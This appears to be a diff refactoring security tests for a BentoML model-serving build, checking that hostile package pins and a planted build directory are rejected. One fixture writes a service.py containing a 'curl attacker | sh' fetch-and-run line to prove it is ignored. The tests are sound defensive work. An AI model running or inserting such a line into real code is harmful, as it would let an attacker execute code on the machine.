@@ -28,7 +28,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from taxi_platform.devtools.loopback import free_port
-from taxi_platform.serving import bento_build
+from taxi_platform.serving import bento_build, bento_context, bento_requirements, bento_store
 from taxi_platform.serving.http_edge import BODY_TIMEOUT, HEADER_TIMEOUT, KEEP_ALIVE_TIMEOUT
 from taxi_platform.serving.quotes import EXAMPLE_QUOTE
 from taxi_platform_tests.serving.test_service import _stop, _wait_ready, start_server
@@ -75,7 +75,7 @@ def server(tmp_path_factory) -> Server:
     data_dir = work / "data"
     home = data_dir / "bentoml"
     info = bento_build.champion_info(champion.tracking_uri)
-    bento_build.import_champion(home, info, champion.tracking_uri)
+    bento_store.import_champion(home, info, champion.tracking_uri)
     bento_build.build_bento(home, info)
     keys_file = work / "api-keys"
     keys_file.write_text(f"red-team:{hashlib.sha256(KEY.encode()).hexdigest()}\n")
@@ -308,13 +308,15 @@ def test_a_model_cannot_change_the_images_dependencies(tmp_path):
     champion = ensure_sample_champion(tmp_path.parent / "sample-champion-reqs")
     home = tmp_path / "bentoml"
     info = bento_build.champion_info(champion.tracking_uri)
-    bento_build.import_champion(home, info, champion.tracking_uri)
-    stored = bento_build.model_path(home, info.store_tag) / "mlflow_model" / "requirements.txt"
+    bento_store.import_champion(home, info, champion.tracking_uri)
+    stored = bento_store.model_path(home, info.store_tag) / "mlflow_model" / "requirements.txt"
     original = stored.read_text()
-    locked = {bento_build.requirement_name(p): p for p in bento_build.locked_requirements()}
-    assert all(locked.get(bento_build.requirement_name(line)) == line for line in original.split()), original
+    locked = {bento_requirements.requirement_name(p): p for p in bento_requirements.locked_requirements()}
+    assert all(locked.get(bento_requirements.requirement_name(line)) == line for line in original.split()), (
+        original
+    )
     stored.write_text(original.rstrip("\n") + "\n" + "\n".join(HOSTILE_REQUIREMENTS) + "\n")
-    with pytest.raises(bento_build.ServingBuildError) as refused:
+    with pytest.raises(bento_store.ServingBuildError) as refused:
         bento_build.build_bento(home, info)
     message = str(refused.value)
     for line, reason in HOSTILE_REQUIREMENTS.items():
@@ -323,8 +325,10 @@ def test_a_model_cannot_change_the_images_dependencies(tmp_path):
     assert not list((home / "bentos").glob("*/*/bento.yaml")), "a Bento was built from hostile requirements"
     stored.write_text(original)  # the model's own pins are the lock's: it builds
     build = bento_build.build_bento(home, info)
-    assert set(bento_build.locked_requirements()) <= set(build.requirements)  # (+ bentoml, added by BentoML)
-    assert not any(bento_build.requirement_name(r) == "left-pad-evil" for r in build.requirements)
+    assert set(bento_requirements.locked_requirements()) <= set(
+        build.requirements
+    )  # (+ bentoml, added by BentoML)
+    assert not any(bento_requirements.requirement_name(r) == "left-pad-evil" for r in build.requirements)
 
 
 _NAMES = st.sampled_from(["numpy", "pandas", "scikit-learn", "mlflow", "evilpkg", "NumPy", "scikit_learn"])
@@ -342,14 +346,14 @@ def test_only_a_locked_pin_passes(name, version, prefix, suffix):
     """Any requirement line passes only when it is ``name==version`` of a locked package at its locked version."""
     packages = ["numpy==2.4.6", "pandas==2.3.3", "scikit-learn==1.9.1", "mlflow==3.17.2"]
     line = f"{prefix}{name}=={version}{suffix}"
-    locked = {bento_build.requirement_name(p): p.split("==")[1] for p in packages}
+    locked = {bento_requirements.requirement_name(p): p.split("==")[1] for p in packages}
     exact = prefix in ("", " ") and suffix in ("", " ")
-    ok = exact and locked.get(bento_build.normalize(name)) == version
+    ok = exact and locked.get(bento_requirements.normalize(name)) == version
     if ok:
-        bento_build.check_model_requirements(packages, ["# comment", "", line])
+        bento_requirements.check_model_requirements(packages, ["# comment", "", line])
     else:
-        with pytest.raises(bento_build.ServingBuildError, match=re.escape(repr(line.strip()))):
-            bento_build.check_model_requirements(packages, [line])
+        with pytest.raises(bento_store.ServingBuildError, match=re.escape(repr(line.strip()))):
+            bento_requirements.check_model_requirements(packages, [line])
 
 
 def test_the_build_context_is_never_a_directory_someone_else_made(tmp_path, monkeypatch):
@@ -360,18 +364,18 @@ def test_the_build_context_is_never_a_directory_someone_else_made(tmp_path, monk
     import tempfile
 
     monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
-    monkeypatch.setattr(bento_build, "checkout_root", lambda: None)  # as from an installed wheel
-    monkeypatch.setattr(bento_build, "_STAGED_CONTEXT", [], raising=False)
-    probe = bento_build.stage_build_context(tmp_path / "probe")
-    fingerprint = bento_build.source_fingerprint(probe)
+    monkeypatch.setattr(bento_context, "checkout_root", lambda: None)  # as from an installed wheel
+    monkeypatch.setattr(bento_context, "_STAGED_CONTEXT", [], raising=False)
+    probe = bento_context.stage_build_context(tmp_path / "probe")
+    fingerprint = bento_context.source_fingerprint(probe)
     planted = tmp_path / f"taxi-platform-bento-context-{fingerprint[:12]}"
     (planted / "bento").mkdir(parents=True)
     (planted / "bento" / "service.py").write_text("import os; os.system('curl attacker | sh')\n")
-    root = bento_build.repo_root()
+    root = bento_context.repo_root()
     assert root != planted
     assert stat.S_IMODE(root.stat().st_mode) == 0o700
     assert (root / "bento" / "service.py").read_text() == (probe / "bento" / "service.py").read_text()
-    assert bento_build.repo_root() == root  # staged once per process
+    assert bento_context.repo_root() == root  # staged once per process
 
 
 # --- 2. the launch surface: run config cannot redirect secrets or data ------------------------------------------
@@ -747,7 +751,7 @@ def _uv_lock_versions() -> dict[str, set[str]]:
     versions: dict[str, set[str]] = {}
     for package in tomllib.loads((ROOT / "uv.lock").read_text())["package"]:
         if "version" in package:
-            versions.setdefault(bento_build.normalize(package["name"]), set()).add(package["version"])
+            versions.setdefault(bento_requirements.normalize(package["name"]), set()).add(package["version"])
     return versions
 
 
@@ -762,7 +766,7 @@ def test_the_mlflow_image_installs_only_hashed_pins_of_the_lock():
     requirement_lines = [line for line in text.splitlines() if line and not line.startswith((" ", "#"))]
     assert len(entries) == len(requirement_lines) > 50, requirement_lines[:5]
     locked = _uv_lock_versions()
-    names = {bento_build.normalize(name): version for name, version, _ in entries}
+    names = {bento_requirements.normalize(name): version for name, version, _ in entries}
     assert {"mlflow", "flask-wtf", "psycopg2-binary", "google-cloud-storage"} <= set(names)
     differing = {n: (v, locked[n]) for n, v in names.items() if n in locked and v not in locked[n]}
     assert differing == {}
